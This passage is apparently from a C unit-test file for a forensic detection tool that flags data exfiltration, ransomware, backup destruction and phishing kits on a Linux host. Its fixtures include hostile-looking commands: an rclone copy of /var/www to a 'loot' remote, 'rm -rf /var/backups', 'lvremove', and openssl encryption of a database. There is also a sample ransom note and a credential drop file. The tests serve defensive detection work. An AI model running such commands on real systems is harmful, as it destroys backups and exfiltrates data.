	tl_proc_set(s, &p[1], 200, 100, "restic", "/usr/bin/restic", EXE_FILE);
	p[1].cmdline = "restic -r sftp:backup@nas:/srv/restic backup /etc";
	tl_proc_set(s, &p[2], 300, 1, "apache2", "/usr/sbin/apache2", EXE_FILE);
	p[2].ruid = p[2].euid = 33;
	tl_proc_set(s, &p[3], 400, 300, "rclone", "/tmp/.x/rclone", EXE_FILE);
	p[3].cmdline = "/tmp/.x/rclone copy /var/www megabox:loot";
	tl_proc_set(s, &p[4], 500, 1, "rclone", "/usr/bin/rclone", EXE_FILE);
	p[4].cmdline = "rclone sync /srv/photos gdrive:photos";
	tl_proc_set(s, &p[5], 600, 300, "openssl", "/usr/bin/openssl",
	    EXE_FILE);
	p[5].cmdline = "openssl enc -aes-256-cbc -in /srv/db -out /srv/db.enc";
	tl_proc_set(s, &p[6], 700, 1, "gpg", "/usr/bin/gpg", EXE_FILE);
	p[6].cmdline = "gpg -c notes.txt";
	d = dataf(s, DATAF_RCLONE, "/root/.config/rclone/rclone.conf",
	    DAREA_HOME);
	d->detail = "megabox";
	d->detail2 = "mega";
	d->user = "root";
	d = dataf(s, DATAF_RCLONE, "/root/.config/rclone/rclone.conf",
	    DAREA_HOME);
	d->detail = "here";
	d->detail2 = "local";
	d = dataf(s, DATAF_HIST, "/root/.bash_history", DAREA_HOME);
	d->detail = "rm -rf /var/backups";
	d->detail2 = webparse_backup_kill(S("rm -rf /var/backups"));
	d->line = 7;
	d = dataf(s, DATAF_HIST, "/root/.zsh_history", DAREA_HOME);
	d->detail = "lvremove vg/x";
	d->detail2 = webparse_backup_kill(S("lvremove vg/x"));
	d->line = 3;

	tl_run_one(s, "RM-DAT-001", &fs);
	assert_int_equal(tl_count(&fs, "RM-DAT-001", 200), 1);
	assert_int_equal(tl_get(&fs, "RM-DAT-001", 200)->severity, SEV_LOW);
	assert_int_equal(tl_get(&fs, "RM-DAT-001", 400)->severity, SEV_HIGH);
	assert_int_equal(tl_get(&fs, "RM-DAT-001", 500)->severity, SEV_MEDIUM);
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-DAT-001", 400),
	    "remote"), "megabox:loot");
	assert_int_equal(sev_of(&fs, "RM-DAT-001",
	    "/root/.config/rclone/rclone.conf"), SEV_MEDIUM);
	/* the local remote: none; and no process rule for sleep/cron */
	assert_int_equal(tl_count(&fs, "RM-DAT-001", 0), 4);
	findings_free(&fs);

	tl_run_one(s, "RM-RAN-002", &fs);
	assert_int_equal(tl_get(&fs, "RM-RAN-002", 600)->severity, SEV_HIGH);
	assert_int_equal(tl_get(&fs, "RM-RAN-002", 700)->severity, SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-RAN-002", "/root/.bash_history"),
	    SEV_HIGH);
	assert_int_equal(sev_of(&fs, "RM-RAN-002", "/root/.zsh_history"),
	    SEV_MEDIUM);
	assert_int_equal(tl_count(&fs, "RM-RAN-002", 0), 4);
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_det_cron_backup(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct cron_file cf = { .path = "/etc/cron.d/x", .kind = CRONF_SYSTEM };
	struct cron_job j[2] = {
		{ .file = &cf, .line = 2, .user = "root",
		  .command = "rm -rf /var/backups/* >/dev/null 2>&1" },
		{ .file = &cf, .line = 3, .user = "root",
		  .command = "find /var/backups -mtime +30 -delete" },
	};
	struct findings fs;

	(void)state;
	s->cron_files = &cf;
	s->ncron_files = 1;
	s->cron_jobs = j;
	s->ncron_jobs = 2;
	tl_run_one(s, "RM-RAN-002", &fs);
	assert_int_equal(tl_count(&fs, "RM-RAN-002", 0), 1);
	assert_int_equal(fs.v[0]->severity, SEV_MEDIUM);
	assert_int_equal(finding_ev_get(fs.v[0], "line")->i, 2);
	findings_free(&fs);
	tl_snap_free(s);
}

/* ---- the collector on an image -------------------------------------------- */

static struct snapshot *
image_snap(const char *dir)
{
	struct snapshot *s = tl_snap_new();
	struct account *a = tl_accounts(s, 2);

	tl_account_set(s, &a[0], "root", 0, 1);
	tl_account_set(s, &a[1], "www-data", 33, 2);
	a[1].home = "/var/www";
	s->live = false;
	s->root = dir;
	s->rootfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(s->rootfd >= 0);
	s->ref_time = (int64_t)time(NULL);
	return s;
}

static size_t
count_web(const struct snapshot *s, enum web_kind k)
{
	size_t n = 0;

	for (size_t i = 0; i < s->nweb_files; i++)
		n += s->web_files[i].kind == k;
	return n;
}

static const struct data_file *
find_data(const struct snapshot *s, enum data_kind k, const char *path)
{
	for (size_t i = 0; i < s->ndata_files; i++)
		if (s->data_files[i].kind == k &&
		    strcmp(s->data_files[i].path, path) == 0)
			return &s->data_files[i];
	return NULL;
}

static void
test_collect_image(void **state)
{
	char *d = tl_tmpdir();
	char *out = tl_tmpdir();
	struct snapshot *s;
	char name[64];

	(void)state;
	tl_writes(d, "var/www/html/o365/login.php", kit_page);
	tl_writes(d, "var/www/html/wp-login.php", wp_login);
	tl_writes(d, "var/www/html/o365/rez.txt", "Email: a@b.c\n"
	    "Password: pw\nIP: 1.2.3.4\n");
	tl_writes(d, "var/www/html/readme.txt", "Email: a@b.c\n"
	    "Password: pw\nIP: 1.2.3.4\n");
	tl_writes(d, "var/www/html/db.sql", "-- MySQL dump 10.13\n");
	tl_writes(d, "var/www/html/office365.zip", "PK\3\4");
	tl_writes(d, "etc/nginx/sites-enabled/site", "server { root /srv/site; }");
	tl_writes(d, "srv/site/paypal/index.html", "<input type=password> "
	    "PayPal");
	tl_writes(d, "srv/data/README_FOR_DECRYPT.txt", "Your files are "
	    "encrypted. Send BTC.");
	for (int i = 0; i < 21; i++) {
		snprintf(name, sizeof(name), "srv/data/f%d.doc.locked", i);
		tl_writes(d, name, "x");
	}
	tl_writes(d, "root/.config/rclone/rclone.conf", "[m]\ntype = mega\n"
	    "pass = TOPSECRET\n");
	tl_writes(d, "root/.bash_history", "ls\nrm -rf /var/backups\n");
	tl_writes(d, "var/www/.bash_history", "lvremove -f vg/root_snap\n");
	/* a link out of the image: never followed */
	tl_writes(out, "secret/README_FOR_DECRYPT.txt", "decrypt bitcoin");
	tl_symlink(d, "srv/out", out);
	tl_symlink(d, "home/evil/public_html", out);

	if (geteuid() == 0) {
		char *p = tl_path(d, "var/www/html/o365/rez.txt");

		assert_int_equal(chown(p, 33, 33), 0);
		free(p);
	}
	s = image_snap(d);
	web_collect(s, false);
	assert_int_equal(count_web(s, WEBF_KIT_PAGE), 2);
	assert_int_equal(count_web(s, WEBF_DROP), 1);
	assert_int_equal(count_web(s, WEBF_KIT_ARCHIVE), 1);
	assert_int_equal(count_web(s, WEBF_BRAND_DIR), 1);
	for (size_t i = 0; i < s->nweb_files; i++) {
		const struct web_file *w = &s->web_files[i];

		if (w->kind == WEBF_DROP) {
			assert_string_equal(w->path,
			    "/var/www/html/o365/rez.txt");
			assert_true(w->web_owner == (geteuid() == 0));
			assert_int_equal(w->creds, 1);
		}
		if (w->kind == WEBF_KIT_PAGE &&
		    strcmp(w->path, "/srv/site/paypal/index.html") == 0) {
			assert_true(w->kit_place);
			assert_string_equal(w->webroot, "/srv/site");
		}
		assert_null(strstr(w->path, "wp-login"));
	}
	assert_non_null(find_data(s, DATAF_DUMP, "/var/www/html/db.sql"));
	assert_int_equal(find_data(s, DATAF_DUMP, "/var/www/html/db.sql")->area,
	    DAREA_WEB);
	assert_non_null(find_data(s, DATAF_NOTE,
	    "/srv/data/README_FOR_DECRYPT.txt"));
	assert_int_equal(find_data(s, DATAF_ENC_DIR, "/srv/data")->count, 21);
	assert_string_equal(find_data(s, DATAF_RCLONE,
	    "/root/.config/rclone/rclone.conf")->detail2, "mega");
	assert_int_equal(find_data(s, DATAF_HIST, "/root/.bash_history")->line,
	    2);
	assert_non_null(find_data(s, DATAF_HIST, "/var/www/.bash_history"));
	for (size_t i = 0; i < s->ndata_files; i++) {
		assert_null(strstr(s->data_files[i].path, "secret"));
		if (s->data_files[i].detail)
			assert_null(strstr(s->data_files[i].detail, "TOPSECRET"));
	}
	tl_snap_free(s);
	tl_rmrf(d);
	tl_rmrf(out);
	free(d);
	free(out);
}

static void
test_collect_cap(void **state)
{
	char *d = tl_tmpdir();
	struct snapshot *s;
	char name[64];

	(void)state;
	for (int i = 0; i < 300; i++) {
		snprintf(name, sizeof(name), "var/www/html/d%d/f", i);
		tl_writes(d, name, "x");
	}
	setenv("ROOKMELDER_WALK_MAX", "100", 1);
	s = image_snap(d);
	web_collect(s, false);
	unsetenv("ROOKMELDER_WALK_MAX");
	assert_true(tl_skipped(s, "web roots", "stopped after 100 entries"));
	assert_true(tl_skipped(s, "web roots", "in /var/www"));
	tl_snap_free(s);
	tl_rmrf(d);
	free(d);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_conf_roots),
		cmocka_unit_test(test_kit),
		cmocka_unit_test(test_drop),
		cmocka_unit_test(test_rclone),
		cmocka_unit_test(test_ransom),
		cmocka_unit_test(test_magic),
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_det_kit),
		cmocka_unit_test(test_det_drop),
		cmocka_unit_test(test_det_data),
		cmocka_unit_test(test_det_ransom),
		cmocka_unit_test(test_det_sync_encrypt),
		cmocka_unit_test(test_det_sync_restic_env),
		cmocka_unit_test(test_det_cron_backup),
		cmocka_unit_test(test_collect_image),
		cmocka_unit_test(test_collect_cap),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
